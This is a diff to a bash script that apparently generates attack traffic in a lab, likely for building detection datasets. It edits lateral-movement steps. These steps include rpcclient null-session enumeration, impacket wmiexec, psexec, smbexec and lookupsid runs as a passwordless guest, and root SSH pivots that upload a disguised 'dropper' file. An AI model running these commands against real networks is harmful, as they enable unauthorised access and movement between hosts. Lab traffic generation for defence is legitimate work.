@@ -179,8 +179,10 @@ fcap fr-exfil-nc-9001 exfil nc-odd-port attacker public false 120 bash -c \
 # ---------- lateral ----------
 fcap fr-lat-rpcclient lateral rpcclient attacker lan false 90 bash -c \
   "for h in 20 31 32; do timeout 20 rpcclient -U '' -N $NET.\$h -c 'srvinfo;enumdomusers;netshareenumall;lsaquery;querydominfo' || true; done"
-fcap fr-lat-impacket-exec lateral impacket-wmiexec-psexec-smbexec attacker lan false 90 bash -c \
-  "timeout 20 impacket-wmiexec -no-pass guest@$VIC_IP whoami; timeout 20 impacket-psexec -no-pass guest@$VIC_IP whoami; timeout 20 impacket-smbexec -no-pass guest@$VIC_IP </dev/null; true"
+# Debian ships only some impacket examples as impacket-* commands; the others are in the package's examples.
+IEX=/usr/share/doc/python3-impacket/examples
+fcap fr-lat-impacket-exec lateral impacket-wmiexec-psexec-smbexec-lookupsid attacker lan false 120 bash -c \
+  "timeout 20 impacket-wmiexec -no-pass guest@$VIC_IP whoami; timeout 20 $PY $IEX/psexec.py -no-pass guest@$VIC_IP whoami; timeout 20 $PY $IEX/smbexec.py -no-pass guest@$VIC_IP </dev/null; timeout 20 $PY $IEX/lookupsid.py -no-pass guest@$VIC_IP 300; true"
 fcap fr-lat-ssh-pivot lateral ssh-lan-pivot attacker lan false 90 bash -c \
   "for h in 20 31 32 33 34; do ssh ${SSHO[*]} root@$NET.\$h 'uname -a; id; cat /etc/hostname' || true; done; head -c 2000000 /dev/urandom > $W/dropper.bin; scp ${SSHO[*]} $W/dropper.bin root@$VIC_IP:$W/upload/.x; ssh ${SSHO[*]} root@$VIC_IP 'ls -la $W/upload | head -5'"
 
